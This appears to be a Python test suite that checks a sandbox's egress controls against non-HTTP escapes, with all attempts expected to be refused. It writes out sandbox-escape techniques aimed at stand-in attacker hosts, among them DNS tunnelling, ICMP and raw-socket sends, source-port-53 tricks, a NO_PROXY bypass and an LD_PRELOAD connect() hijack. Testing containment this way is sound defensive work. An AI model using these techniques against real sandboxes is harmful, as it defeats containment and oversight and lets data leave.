#!/usr/bin/python3 -B
"""Goal: as test_egress_attacks.py, for attacks that do not speak HTTP: UDP, ICMP, raw sockets, egress's own ports, and programs
that ignore the environment.

    test_egress_attacks_network.py CORDON PLAIN [name ...]"""
import os
import subprocess
import time

import internet
from attacks_common import control, hiding, refused, start, wide
from harness import check, equal, wait_for
from internet import EVIL, EVIL6, METADATA, NODE_PUBLIC
from internet_client import POLICY, both, curl, make, policy, probe, put, sh, shared


def udp_refused(server, port, data="b'x' * 40"):
    s = wide(server)
    got = both(server, s, f"[udp('web.example', {port}, {data}), udp('{EVIL}', {port}, {data}), udp('{EVIL6}', {port}, "
               f"{data}), udp('{METADATA}', {port}, {data})]")
    check(all("ConnectionRefused" in t for g in got for t in g), f"at once: {got}")


def test_quic_udp_443(server):
    udp_refused(server, 443, "b'\\xc3\\0\\0\\0\\1' + b'\\0' * 1195")
    check('Alt-Svc' not in probe(server, shared(server), "get('web.example', '/altsvc')"),
          "a server's advice to use it")


def test_ntp(server):
    udp_refused(server, 123, "b'\\x23' + b'\\0' * 47")


def test_doh(server):
    """Where paths are given, /dns-query is none of them; and an address learnt that way is refused anyhow."""
    s = shared(server)
    refused(both(server, s, "[raw('look.example', 80, 'POST /dns-query HTTP/1.1\\r\\nHost: "
                 "look.example\\r\\nContent-Type: application/dns-message\\r\\nContent-Length: 3\\r\\n\\r\\nabc'), "
                 f"tls_get('look.example', '/dns-query?dns=AAAA'), get('evil.example', at='{EVIL}'), "
                 f"tls_get('evil.example', at='{EVIL}', check=False)]"))
    equal(internet.NET.hits, [], "hits")


def test_dot_853(server):
    s = shared(server)
    refused(both(server, s, f"[tls_get('web.example', port=853, check=False), raw('9.9.9.9', 853, "
                 f"hello(b'web.example')).replace(chr(21), '!'), raw('{EVIL}', 853, "
                 f"hello(b'evil.example')).replace(chr(21), '!')]"))
    equal(internet.NET.connections, [], "connections")


def test_dns_tunnelling(server):
    s = make(server)
    began = time.monotonic()
    got = probe(server, s, "tunnel()", before="""
def tunnel():
    out = {}
    for kind in (16, 10, 255, 15, 33, 99, 12, 257):
        for name in ('a' * 60 + '.evil.example', 'web.example', 'data.one.wild.example'):
            a = dns(name, kind)
            out[f'{kind} {name}'] = a[:2] if isinstance(a, list) else a
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((RESOLVER, 53))
    s.settimeout(0.2)
    for i in range(3000):
        s.send(question(f'{i:060x}.evil.example'))
    return out""")
    for what, answer in got.items():
        check(isinstance(answer, list) and answer[1] == 0 and (answer[0] != 0), f"{what}: {answer}")
    equal(internet.NET.asked, [], "questions that left the node")
    check(time.monotonic() - began < 15, "3,000 questions take long")
    wait_for(lambda: probe(server, s, "dns('web.example')")[:2] == [0, 1], 10, "an answer after that many")
    refused(probe(server, s, "[get('x.evil.example', at='web.example')]"))


def test_icmp_tunnel(server):
    s = wide(server)
    got = both(server, s, "[made(k) for k in (socket.SOCK_DGRAM, socket.SOCK_RAW)]", before=f"""
def made(kind):
    try:
        s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('{EVIL}', 0))
        return 'sent'
    except OSError as e:
        return name_of(e)""")
    check(all(t.startswith("!") for g in got for t in g), f"ICMP sockets: {got}")


def test_ipv6_only_path(server):
    s = shared(server)
    refused(both(server, s, f"[get('evil.example', at='{EVIL6}'), *by_proxy('[{EVIL6}]'), get('web.example', "
                 f"at='{internet.WEB6}'), "
                 f"tls_get('web.example', at='{internet.WEB6}', check=False)]"))
    equal([a[:2] for a in both(server, hiding(server), "dns('evil.example', 28)")], [[3, 0]] * 2, "names")
    equal(internet.NET.connections, [], "connections")


def raw_socket(server, words, send):
    got = both(server, wide(server), "made()", before=f"""
def made():
    try:
        s = socket.socket({words})
        {send}
        return 'sent'
    except OSError as e:
        return name_of(e)""")
    check(all(t.startswith("!") for t in got), f"socket({words}): {got}")


def test_ip_fragments(server):
    raw_socket(server, "socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW", f"s.sendto(b'\\x45' + b'\\0' * 39, "
               f"('{EVIL}', 0))")
    raw_socket(server, "socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW", f"s.sendto(b'\\x60' + b'\\0' * 47, "
               f"('{EVIL6}', 0))")


def test_raw_socket_to_the_gateway(server):
    raw_socket(server, "socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)", "s.bind(('lo', 0)); s.send(b'\\0' * 60)")
    raw_socket(server, "socket.AF_INET, socket.SOCK_RAW, 6", f"s.sendto(b'\\0' * 20, ('{EVIL}', 0))")


def test_source_port_53(server):
    got = probe(server, shared(server), f"[dns('evil.example', server='{EVIL}', source=53)[:2], from53()]", before=f"""
def from53():
    s = socket.socket()
    s.settimeout(5)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(('', 53))
    s.connect(('{EVIL}', 80))
    s.sendall(b'GET /echo HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')
    return everything(s)""")
    check(got[0][1] == 0, f"an answer from outside: {got[0]}")  # its own question may come back to it
    refused(got[1])


def test_tcp_to_the_proxys_own_admin_port(server):
    port = server.address[1]
    s = wide(server)
    for host in ("127.0.0.1", "localhost", "[::1]", "192.0.2.1", NODE_PUBLIC, "self.example", "198.18.0.1"):
        refused(both(server, s, f"[raw({host.strip('[]')!r}, {port}, "
                     f"'GET /healthz HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n'), *by_proxy('{host}:{port}', "
                     f"'/healthz')]"), host)


def test_proxy_reaching_its_own_loopback(server):
    """The node's own services: at its loopback, at its public address, by name, and the proxy by itself."""
    for host in ("127.0.0.1", "127.0.0.53", "self.example", NODE_PUBLIC, "loop.example", "2001:db8::1"):
        host = f"[{host}]" if ":" in host else host
        s = wide(server)
        refused(both(server, s, f"[*by_proxy('{host}:8088'), *by_proxy('{host}:80'), *by_proxy('{host}:3128'), "
                     f"*by_proxy('{host}:53')]"), host)
    refused(both(server, wide(server), "[*by_proxy('198.18.0.1:3128'), *by_proxy('[fd63:6f72:646f:6e00::1]:3128')]"),
            "the proxy by itself")


def test_no_proxy(server):
    s = shared(server)
    for more in ({"env": {"NO_PROXY": "*", "no_proxy": "*", "http_proxy": "http://198.18.0.1:3128"}}, {}):
        for url in ("http://evil.example/", f"http://{EVIL}/", f"http://{METADATA}/latest/meta-data/"):
            code, status, text = curl(server, s, url, "--noproxy", "*", **more)
            check(status in (0, 403), f"{url}: {code} {status} {text[:200]}")


def test_ld_preload(server):
    s = shared(server)
    source = f"""#define _GNU_SOURCE
#include <arpa/inet.h>
#include <sys/syscall.h>
#include <unistd.h>
int connect(int s, const struct sockaddr *a, unsigned n)
{{ struct sockaddr_in t = {{ .sin_family = AF_INET, .sin_port = htons(80) }}; (void)a; (void)n;
  inet_pton(AF_INET, "{EVIL}", &t.sin_addr); return (int)syscall(SYS_connect, s, &t, sizeof(t)); }}"""
    library = os.path.join(internet.FOLDER, "p.so")
    subprocess.run(["cc", "-shared", "-fPIC", "-x", "c", "-o", library, "-"], input=source, text=True, check=True)
    with open(library, "rb") as f:
        server.want(201, "PUT", f"/v1/sessions/{s['id']}/files?path=/tmp/p.so&mode=755", f.read())
    done = sh(server, s, "LD_PRELOAD=/tmp/p.so curl -4 -sS -m 10 -o /dev/null -w '%{http_code}' "
              "http://web.example/echo")
    check(done["stdout"] in ("403", "000"), f"{done}")


def test_static_binary_that_ignores_the_environment(server):
    s = shared(server)
    with open(os.environ["PLAIN_PROGRAM"], "rb") as f:
        server.want(201, "PUT", f"/v1/sessions/{s['id']}/files?path=/tmp/plain&mode=755", f.read())
    for host in (EVIL, METADATA, "evil.example"):
        done = sh(server, s, f"/tmp/plain {host} 80 /echo", env={"http_proxy": "http://198.18.0.1:3128"})
        check("200 OK" not in done["stdout"] and (done["exit_code"] or " 403 " in done["stdout"]), f"{host}: {done}")


def test_policy_race_at_startup(server):
    """Before the policy is there nothing gets out: attempts begin with the cell's first moment."""
    code = (f"import socket\nn = 0\nfor i in range(60):\n for a in ('{EVIL}', '{METADATA}', '{EVIL6}'):\n"
            "  try:\n   s = socket.socket(socket.AF_INET6 if ':' in a else socket.AF_INET); s.settimeout(2); "
            "s.connect((a, 80)); "
            "s.sendall(b'GET /echo HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'); "
            "n += b'sha256' in s.recv(9999)\n  except OSError: pass\nprint(n)")
    for network in ("deny", "none", POLICY, POLICY, POLICY, POLICY):
        s = server.create(network=network)
        x = server.spawn(s["id"], ["/usr/bin/python3", "-c", code])
        if network != POLICY:
            put(server, s, POLICY)
        else:
            for n in range(4):
                put(server, s, policy({"host": f"h{n}.example"}))
        done = wait_for(lambda: (now := server.execution(x))["ended_at"] and now, 30, "its end")
        equal(done["exit_code"], 0, "exit")
        equal(server.want(200, "GET", f"/v1/sessions/{s['id']}/executions/{x['id']}/output?stream=stdout", raw=True),
              b"0\n", "answers it got")
        server.delete(s["id"])


if __name__ == "__main__":
    start()
    internet.run_tests(globals(), pool_size=2)
